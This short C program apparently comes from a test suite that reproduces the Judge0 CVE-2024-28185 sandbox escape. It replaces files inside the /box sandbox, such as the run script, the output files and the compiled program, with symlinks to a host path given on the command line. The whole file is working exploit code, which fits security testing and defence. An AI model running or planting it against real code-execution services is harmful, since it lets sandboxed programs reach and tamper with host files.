/* The Judge0 CVE-2024-28185 pattern: the program replaces files the judge later reads or
 * writes by name (its run script, the output files, the compiled program) with symlinks to a
 * host path. argv[1] is that host path; argv[2..] the names to plant. */
#include "attack.h"

int main(int argc, char **argv) {
    if (argc < 3) {
        return 3;
    }
    for (int i = 2; i < argc; i++) {
        char name[4200];
        snprintf(name, sizeof name, "/box/%s", argv[i]);
        unlink(name);
        if (symlink(argv[1], name) != 0) {
            printf("symlink %s: %s\n", name, strerrorname_np(errno));
            return 3;
        }
    }
    printf("planted %d symlinks to %s\n", argc - 2, argv[1]);
    return 0;
}
